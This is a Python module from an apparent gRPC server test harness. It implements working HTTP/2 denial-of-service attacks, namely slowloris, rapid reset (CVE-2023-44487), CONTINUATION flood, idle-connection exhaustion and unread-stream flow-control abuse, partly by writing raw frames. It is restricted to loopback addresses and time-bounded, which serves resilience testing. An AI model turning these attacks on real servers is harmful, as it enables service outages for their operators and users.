"""Attacks on a gRPC endpoint from one client, as an attacker on the same machine would.

    python -m grpctest_harness.attacks unread-streams --port 8080 --size 60 --hold 25

runs one attack and prints JSON lines: {"event": "ready", ...} once everything it opens
is open (the moment to look at the target), then {"event": "done", "report": ...}:
what it tried and how the server answered (GOAWAY and its error code, RST_STREAM, gRPC
statuses, connections closed). The attacks:

    none               nothing, for --hold seconds (the honest callers' baseline)
    idle-connections   SIZE TCP connections that send nothing, held for --hold seconds
    slowloris          SIZE connections that start a request and send its headers one
                       byte every 2 s, never finishing them
    rapid-reset        SIZE requests over 4 connections, each reset right after its
                       headers (CVE-2023-44487)
    continuation-flood SIZE MiB of CONTINUATION frames after a HEADERS frame without
                       END_HEADERS, on one connection
    unread-streams     SIZE connections with 100 server streams of 100,000 replies
                       each, whose replies are never read (no byte read, no window)

Each speaks HTTP/2 itself (the `h2` library, or frames written by hand where a client
library would refuse to misbehave) over plain TCP, to a loopback address only, and ends
by itself: every attack is bounded in time and closes what it opened. It runs in a
process of its own, so that it competes with the honest callers for the machine as a
separate client would, not for their interpreter.
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import contextlib
import ipaddress
import json
import time
from collections.abc import Awaitable, Callable, Coroutine, Iterator, Sequence
from dataclasses import dataclass, field
from typing import Any

import h2.config
import h2.connection
import h2.errors
import hpack
from hyperframe.exceptions import UnknownFrameError
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
)

from grpctest import grpctest_pb2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STREAM_METHOD = "/grpctest.Grpctest/StreamServerResponses"
UNARY_METHOD = "/grpctest.Grpctest/GetServerResponse"
# Connections the attacks open at once, at most (the rest wait for a turn).
PARALLEL_CONNECTS = 200


@dataclass(frozen=True)
class Endpoint:
    """Where to attack: a loopback host and port (plaintext HTTP/2)."""

    host: str
    port: int

    def __post_init__(self) -> None:
        if not ipaddress.ip_address(self.host).is_loopback:
            raise ValueError(f"attacks run against loopback addresses only, not {self.host}")

    @property
    def authority(self) -> str:
        return f"{self.host}:{self.port}"

    async def connect(
        self, timeout: float = 10
    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.wait_for(asyncio.open_connection(self.host, self.port), timeout)


@dataclass
class AttackReport:
    """What one attack tried and what the server did about it.

    `tried`: connections opened, streams sent or frames sent; `answers`: how the server
    answered, counted ("GOAWAY ENHANCE_YOUR_CALM", "RST_STREAM REFUSED_STREAM",
    "grpc-status 14: ...", "closed after 5 s", ...); `peak_open`: the most connections
    the attacker had open at once."""

    attack: str
    tried: int = 0
    answers: collections.Counter[str] = field(default_factory=collections.Counter)
    peak_open: int = 0
    seconds: float = 0.0

    def __str__(self) -> str:
        answers = ", ".join(f"{n} x {what}" for what, n in self.answers.most_common())
        return f"{self.attack}: {self.tried} tried, peak {self.peak_open} open; {answers}"

    def to_json(self) -> dict:
        return {**vars(self), "answers": dict(self.answers)}

    @classmethod
    def from_json(cls, data: dict) -> AttackReport:
        return cls(**{**data, "answers": collections.Counter(data["answers"])})


class _Connections:
    """The attacker's open connections: counts them, remembers the most at once, and
    tells when every one of them has been opened (or has failed to open)."""

    def __init__(self, report: AttackReport, total: int) -> None:
        self.report, self.now, self.left = report, 0, total
        self.all_opened = asyncio.Event()
        if total == 0:
            self.all_opened.set()

    def tried(self) -> None:
        self.left -= 1
        if self.left <= 0:
            self.all_opened.set()

    @contextlib.contextmanager
    def open(self) -> Iterator[None]:
        self.now += 1
        self.report.peak_open = max(self.report.peak_open, self.now)
        self.tried()
        try:
            yield
        finally:
            self.now -= 1


def _abort(writer: asyncio.StreamWriter) -> None:
    with contextlib.suppress(Exception):
        writer.transport.abort()


async def _until_closed(reader: asyncio.StreamReader, until: float) -> float | None:
    """Reads (and drops) whatever comes until the peer closes; the seconds it took, or
    None if it still had not closed at `until` (monotonic time)."""
    start = time.monotonic()
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(max(until - start, 0)):
            with contextlib.suppress(OSError):
                while await reader.read(65536):
                    pass
            return time.monotonic() - start
    return None


def _closed_after(seconds: float | None) -> str:
    """When the server closed a connection, as the report counts it."""
    if seconds is None:
        return "still open when the attacker left"
    if seconds < 1:
        return "closed by the server within 1 s"
    return f"closed by the server after {int(seconds)}-{int(seconds) + 1} s"


async def _each(count: int, one: Callable[[int], Awaitable[None]]) -> None:
    """Runs one(i) for i in range(count), at most PARALLEL_CONNECTS of them connecting
    at a time."""
    gate = asyncio.Semaphore(PARALLEL_CONNECTS)

    async def gated(i: int) -> None:
        async with gate:
            await asyncio.sleep(0)
        await one(i)

    await asyncio.gather(*(gated(i) for i in range(count)))


# -- idle connections, slowloris --------------------------------------------------------------


async def idle_connections(
    endpoint: Endpoint, size: int, hold: float, ready: Callable[[], None]
) -> AttackReport:
    """`size` TCP connections, opened as fast as they are accepted, that send nothing;
    each kept until the server closes it or `hold` seconds have passed."""
    report = AttackReport("idle connections")
    connections = _Connections(report, size)
    until = time.monotonic() + hold

    async def one(_: int) -> None:
        report.tried += 1
        try:
            reader, writer = await endpoint.connect(max(until - time.monotonic(), 0.1))
        except (OSError, TimeoutError) as err:
            connections.tried()
            report.answers[f"connect failed: {type(err).__name__}"] += 1
            return
        with connections.open():
            report.answers[_closed_after(await _until_closed(reader, until))] += 1
            _abort(writer)

    return await _timed(report, connections, ready, _each(size, one))


async def _timed(
    report: AttackReport,
    connections: _Connections,
    ready: Callable[[], None],
    attack: Awaitable[object],
) -> AttackReport:
    """Runs the attack, calls ready() once all its connections are open, and reports."""
    start = time.monotonic()

    async def announce() -> None:
        await connections.all_opened.wait()
        ready()

    announcing = asyncio.ensure_future(announce())
    await attack
    await announcing
    report.seconds = round(time.monotonic() - start, 2)
    return report


async def nothing(
    endpoint: Endpoint, size: float, hold: float, ready: Callable[[], None]
) -> AttackReport:
    """No attack: `hold` seconds of nothing (the honest callers' baseline)."""
    ready()
    await asyncio.sleep(hold)
    return AttackReport("none", seconds=hold)


def _request_headers(endpoint: Endpoint, method: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", method),
        (":authority", endpoint.authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def _slow_request(endpoint: Endpoint) -> tuple[bytes, bytes]:
    """The start of a connection whose request never finishes: the preface, SETTINGS,
    a HEADERS frame's 9-byte header (the stream starts there); and the frame's header
    block, to be sent one byte at a time."""
    block = hpack.Encoder().encode(_request_headers(endpoint, UNARY_METHOD))
    frame = HeadersFrame(1, data=block, flags=["END_HEADERS"]).serialize()
    return PREFACE + SettingsFrame(0).serialize() + frame[:9], frame[9:]


async def slowloris(
    endpoint: Endpoint, size: int, hold: float, ready: Callable[[], None], interval: float = 2.0
) -> AttackReport:
    """`size` connections that start a request and send its headers one byte every
    `interval` seconds (never the last one), for at most `hold` seconds."""
    report = AttackReport("slowloris")
    connections = _Connections(report, size)
    until = time.monotonic() + hold
    start, trickle = _slow_request(endpoint)

    async def drip(writer: asyncio.StreamWriter) -> None:
        writer.write(start)
        for byte in trickle[:-1]:
            await asyncio.sleep(interval)
            writer.write(bytes([byte]))
            await writer.drain()

    async def one(_: int) -> None:
        report.tried += 1
        try:
            reader, writer = await endpoint.connect()
        except (OSError, TimeoutError) as err:
            connections.tried()
            report.answers[f"connect failed: {type(err).__name__}"] += 1
            return
        with connections.open():
            dripping = asyncio.ensure_future(drip(writer))
            client = _Replies(reader, report)
            await client.read_until(until)
            report.answers[client.fate()] += 1
            dripping.cancel()
            with contextlib.suppress(asyncio.CancelledError, OSError):
                await dripping
            _abort(writer)

    return await _timed(report, connections, ready, _each(size, one))


# -- HTTP/2 connections that misbehave --------------------------------------------------------


class _Replies:
    """What a server sends on one connection, parsed frame by frame (hyperframe, hpack)
    and counted in the report: GOAWAY and its code, RST_STREAM and its code, gRPC
    statuses; and how the connection ended. Frame-level, so that it reads the answers
    to streams the attacker forged by hand as well as to those `h2` opened."""

    def __init__(self, reader: asyncio.StreamReader, report: AttackReport) -> None:
        self.reader, self.report = reader, report
        self.buffer = bytearray()
        self.decoder = hpack.Decoder()
        self.blocks: dict[int, bytearray] = {}  # header blocks awaiting their CONTINUATION
        self.goaway: str | None = None
        self.closed = False

    def receive(self, data: bytes) -> None:
        if not data:
            self.closed = True
            return
        self.buffer += data
        while len(self.buffer) >= 9:
            try:
                frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            except UnknownFrameError as err:
                frame, length = None, err.length
            if len(self.buffer) < 9 + length:
                return
            if frame is not None:
                frame.parse_body(memoryview(self.buffer[9 : 9 + length]))
                self._count(frame)
            del self.buffer[: 9 + length]

    def _count(self, frame: Frame) -> None:
        if isinstance(frame, GoAwayFrame):
            self.goaway = _code(frame.error_code)
        elif isinstance(frame, RstStreamFrame):
            self.report.answers[f"RST_STREAM {_code(frame.error_code)}"] += 1
        elif isinstance(frame, HeadersFrame | ContinuationFrame):
            block = self.blocks.setdefault(frame.stream_id, bytearray())
            block += frame.data
            if "END_HEADERS" in frame.flags:
                fields = self.decoder.decode(bytes(self.blocks.pop(frame.stream_id)))
                self._count_headers({str(name): str(value) for name, value in fields})

    def _count_headers(self, headers: dict[str, str]) -> None:
        if "grpc-status" in headers:
            status = f"grpc-status {headers['grpc-status']}: {headers.get('grpc-message', '')}"
            self.report.answers[status] += 1
        elif headers.get(":status", "200") != "200":
            self.report.answers[f"HTTP {headers[':status']}"] += 1

    async def read_until(self, until: float) -> None:
        """Reads and counts what the server sends until it closes or `until` (monotonic)."""
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(max(until - time.monotonic(), 0)):
                while not self.closed:
                    try:
                        data = await self.reader.read(65536)
                    except OSError:
                        data = b""
                    self.receive(data)

    def fate(self) -> str:
        """How the connection ended, as the report counts it."""
        if self.goaway is None:
            return "closed by the server without GOAWAY" if self.closed else "still open"
        ending = "connection closed" if self.closed else "connection left open"
        return f"GOAWAY {self.goaway}, {ending}"


def _code(error_code: int) -> str:
    try:
        return h2.errors.ErrorCodes(error_code).name
    except ValueError:
        return str(error_code)


class _H2Client:
    """One attacking HTTP/2 connection: what it sends is made in advance (`opening`,
    `batches`), the same bytes for every connection of an attack (stream ids start at 1
    on each, and so does HPACK's state): an attacker spends its time on the server, not
    on encoding. What the server sends back is read into the report."""

    def __init__(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, report: AttackReport
    ) -> None:
        self.writer = writer
        self.replies = _Replies(reader, report)

    @classmethod
    async def open(cls, endpoint: Endpoint, report: AttackReport, opening: bytes) -> _H2Client:
        """Connects and sends `opening` (preface, SETTINGS, the first requests) at once."""
        reader, writer = await endpoint.connect()
        client = cls(reader, writer, report)
        await client.send(opening)
        return client

    @property
    def usable(self) -> bool:
        return not self.replies.closed and self.replies.goaway is None

    async def send(self, data: bytes) -> None:
        self.writer.write(data)
        with contextlib.suppress(OSError):
            await self.writer.drain()

    def close(self) -> None:
        _abort(self.writer)


def _h2_bytes(
    endpoint: Endpoint, method: str, streams: int, body: bytes | None = None, reset: bool = False
) -> tuple[bytes, list[bytes]]:
    """What an attacking connection sends, made once with the `h2` state machine: its
    opening (preface, SETTINGS) and `streams` requests of `method` (with `body`, ending
    the request; or reset at once with RST_STREAM CANCEL), in batches of 50 streams."""
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    conn = h2.connection.H2Connection(config)
    conn.initiate_connection()
    opening = conn.data_to_send()
    headers = _request_headers(endpoint, method)
    batches = []
    for first in range(0, streams, 50):
        for _ in range(first, min(first + 50, streams)):
            stream_id = conn.get_next_available_stream_id()
            conn.send_headers(stream_id, headers, end_stream=body is None and not reset)
            if body is not None:
                conn.send_data(stream_id, body, end_stream=True)
            if reset:
                conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
        batches.append(conn.data_to_send())
    return opening, batches


async def rapid_reset(
    endpoint: Endpoint, size: int, hold: float, ready: Callable[[], None], connections: int = 4
) -> AttackReport:
    """`size` requests over `connections` connections, each reset (RST_STREAM CANCEL)
    right after its headers, sent as fast as the connection takes them; the requests of
    a connection the server closes are not sent elsewhere. `hold` bounds it."""
    report = AttackReport("rapid reset")
    opened = _Connections(report, connections)
    until = time.monotonic() + hold
    opening, batches = _h2_bytes(endpoint, UNARY_METHOD, -(-size // connections), reset=True)

    async def one(index: int) -> None:
        share = size // connections + (index < size % connections)
        try:
            client = await _H2Client.open(endpoint, report, opening)
        except (OSError, TimeoutError) as err:
            opened.tried()
            report.answers[f"connect failed: {type(err).__name__}"] += 1
            return
        with opened.open():
            reading = asyncio.ensure_future(client.replies.read_until(until))
            sent = 0
            for batch in batches:
                if sent >= share or not client.usable or time.monotonic() >= until:
                    break
                await client.send(batch)
                sent += min(50, share - sent)
                await asyncio.sleep(0)  # let the replies in: a GOAWAY stops the sending
            report.tried += sent
            if sent < share:
                report.answers["connection closed before all its requests were sent"] += 1
            await asyncio.wait({reading}, timeout=2)
            reading.cancel()
            report.answers[client.replies.fate()] += 1
            client.close()

    return await _timed(report, opened, ready, asyncio.gather(*map(one, range(connections))))


async def continuation_flood(
    endpoint: Endpoint, size: float, hold: float, ready: Callable[[], None]
) -> AttackReport:
    """A request's HEADERS frame without END_HEADERS, then CONTINUATION frames of header
    fields (16 KiB each, never indexed: each costs the server its size) until `size`
    MiB are sent, the server closes, or `hold` seconds have passed."""
    report = AttackReport("CONTINUATION flood")
    opened = _Connections(report, 1)
    until = time.monotonic() + hold

    async def flood() -> None:
        reader, writer = await endpoint.connect()
        replies = _Replies(reader, report)
        with opened.open():
            block = hpack.Encoder().encode(_request_headers(endpoint, UNARY_METHOD))
            writer.write(
                PREFACE + SettingsFrame(0).serialize() + HeadersFrame(1, block).serialize()
            )
            fill = hpack.Encoder().encode([("x-flood", "a" * 16_350)], huffman=False)
            frame = ContinuationFrame(1, fill).serialize()
            reading = asyncio.ensure_future(replies.read_until(until))
            sent, limit = 0, int(size * 1024 * 1024)
            while sent < limit and not replies.closed and time.monotonic() < until:
                writer.write(frame)
                sent += len(frame)
                report.tried += 1
                try:
                    await writer.drain()
                except OSError:
                    break
            report.answers[f"{sent // 1024} KiB of CONTINUATION sent"] += 1
            await asyncio.wait({reading}, timeout=2)
            reading.cancel()
            report.answers[replies.fate()] += 1
            _abort(writer)

    return await _timed(report, opened, ready, flood())


def _unread_stream_body(count: int) -> bytes:
    """A StreamServerResponses request of `count` replies, in gRPC's framing."""
    message = grpctest_pb2.StreamRequest(message="unread", count=count).SerializeToString()
    return b"\x00" + len(message).to_bytes(4, "big") + message


async def unread_streams(
    endpoint: Endpoint,
    size: int,
    hold: float,
    ready: Callable[[], None],
    streams: int = 100,
    count: int = 100_000,
) -> AttackReport:
    """`size` connections with `streams` server streams of `count` replies each, whose
    replies are never read: not a byte is read from the socket, no window is opened,
    for `hold` seconds. Then what the server sent meanwhile is read and counted."""
    report = AttackReport("unread streams")
    connections = _Connections(report, size)
    opening, batches = _h2_bytes(endpoint, STREAM_METHOD, streams, _unread_stream_body(count))
    opening += b"".join(batches)
    until = time.monotonic() + hold

    async def one(_: int) -> None:
        try:
            client = await _H2Client.open(endpoint, report, opening)
        except (OSError, TimeoutError) as err:
            connections.tried()
            report.answers[f"connect failed: {type(err).__name__}"] += 1
            return
        report.tried += streams
        with connections.open():
            await asyncio.sleep(max(until - time.monotonic(), 0))
            # What the server said meanwhile, as far as it got (it had no window).
            await client.replies.read_until(time.monotonic() + 1)
            report.answers[client.replies.fate()] += 1
            client.close()

    return await _timed(report, connections, ready, _each(size, one))


Attack = Callable[..., Coroutine[Any, Any, AttackReport]]
ATTACKS: dict[str, Attack] = {
    "none": nothing,
    "idle-connections": idle_connections,
    "slowloris": slowloris,
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "unread-streams": unread_streams,
}


def _emit(event: str, **fields: object) -> None:
    print(json.dumps({"event": event, **fields}), flush=True)


def main(argv: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(prog="python -m grpctest_harness.attacks")
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--host", default="127.0.0.1", help="a loopback address")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--size", type=float, required=True, help="the attack's size (above)")
    parser.add_argument("--hold", type=float, default=12, help="seconds the attack lasts at most")
    args = parser.parse_args(argv)
    endpoint = Endpoint(args.host, args.port)
    size = args.size if args.attack == "continuation-flood" else int(args.size)

    def ready() -> None:
        _emit("ready")

    start = time.monotonic()
    report = asyncio.run(ATTACKS[args.attack](endpoint, size, args.hold, ready))
    # Every attack takes its whole time, also one whose connections were closed early:
    # the honest callers are measured over that time, attack by attack alike.
    time.sleep(max(start + args.hold - time.monotonic(), 0))
    _emit("done", report=report.to_json())


if __name__ == "__main__":
    main()
